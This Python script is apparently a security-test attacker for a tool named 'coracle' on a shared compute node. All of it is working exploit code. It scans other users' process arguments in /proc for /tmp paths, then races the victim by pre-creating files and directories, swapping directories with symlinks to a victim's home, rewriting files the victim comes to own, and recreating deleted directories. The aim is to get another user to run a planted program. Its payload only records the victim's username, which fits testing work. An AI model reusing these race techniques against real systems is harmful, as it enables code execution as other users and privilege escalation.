# A second user of a node, who wants the first one to execute a program of theirs. Looks for paths in /tmp among the
# arguments of all processes, and in /tmp itself, and tries with each, as named on the command line:
#
#   swap     makes the directory first, and exchanges it with a link to a directory of the victim, again and again
#   program  makes the file first, open to all, keeps it open, and writes to it when it belongs to the victim
#   agents   the same with a file that srun broadcasts
#   enter    renames, exchanges or opens what is there already
#   remake   makes the directory again as soon as the victim has removed it
#
# Ends when its standard input does, or after three minutes.
import ctypes, os, re, select, sys, threading, time

PAYLOAD = b"#!/bin/sh\nid -un >>/var/tmp/executed-by\n"
NAMES = re.compile(rb"/tmp/coracle-[0-9A-Za-z.]+")
modes = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
tried = {}
end = time.monotonic() + 180


def over():
    return time.monotonic() > end or os.path.exists("/var/tmp/executed-by")


def exchange(one, other):
    return libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2) == 0


def tell(what, path):
    count = tried[what] = tried.get(what, 0) + 1
    if count == 1:
        print(what, path, flush=True)


def write_program(path):
    with open(path, "wb") as file:
        file.write(PAYLOAD)
    os.chmod(path, 0o777)


def swap(path):
    try:
        os.mkdir(path)
    except OSError:
        return
    tell("made", path)
    write_program(path + "/coracle")
    link = path + "-link"
    os.symlink("/home/user1", link)
    while not over():
        exchange(path, link)


def program(path):
    try:
        file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o777)
    except OSError:
        return
    tell("made", path)
    before = os.fstat(file)
    while not over():
        now = os.fstat(file)
        if now.st_uid != before.st_uid:
            os.ftruncate(file, 0)
            os.pwrite(file, PAYLOAD, 0)
            os.close(file)
            return


def enter(path):
    tell("found", path)
    own = "/tmp/own-" + os.path.basename(path)
    if not os.path.lexists(own):
        os.mkdir(own)
        write_program(own + "/coracle")
    for name in ["coracle", "coracle.part"]:
        try:
            os.rename(own + "/coracle", path + "/" + name)
            tell("entered", path)
        except OSError:
            pass
        try:
            with open(path + "/" + name, "r+b") as file:
                file.write(PAYLOAD)
            tell("wrote", path)
        except OSError:
            pass
    if exchange(own, path):
        tell("exchanged", path)
    for change in [lambda: os.rename(path, path + "-away"), lambda: os.chmod(path, 0o777)]:
        try:
            change()
            tell("renamed", path)
        except OSError:
            pass


def remake(path):
    while not over():
        try:
            os.mkdir(path)
            break
        except FileExistsError:
            time.sleep(0.0005)
        except OSError:  # the disk is full
            pass
    for name in ["coracle", "coracle.part"]:
        while not over():
            try:
                write_program(path + "/" + name)
                break
            except OSError:
                time.sleep(0.0005)
    tell("remade", path)


def is_anothers(path):
    try:
        return os.lstat(path).st_uid != os.getuid()
    except FileNotFoundError:  # just removed by the victim
        return False


def arguments():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as file:
                yield file.read()
        except OSError:
            pass


os.umask(0)
seen = set()
while not over() and not select.select([sys.stdin], [], [], 0.001)[0]:
    for words in arguments():
        for name in NAMES.findall(words):
            path = os.fsdecode(name)
            path = path.removesuffix(".first").removesuffix(".part")
            # Also what only looks like one: a template's name is free to everybody.
            if path in seen or path.endswith("XXXX"):
                continue
            seen.add(path)
            tell("read", path)
            is_file = b"--bcast=" + name in words
            attempts = []
            if "swap" in modes and not is_file:
                attempts.append((swap, path))
            if "program" in modes and not is_file:
                attempts.append((program, path + ".first"))
            if "agents" in modes and is_file:
                attempts.append((program, path))
            for attempt, path in attempts:
                threading.Thread(target=attempt, args=(path,), daemon=True).start()
    for name in os.listdir("/tmp"):
        path = "/tmp/" + name
        if not name.startswith("coracle-") or not is_anothers(path):
            continue
        if "enter" in modes:
            enter(path)
        if "remake" in modes and path not in seen:
            seen.add(path)
            tell("found", path)
            threading.Thread(target=remake, args=(path,), daemon=True).start()
print("end", tried, flush=True)
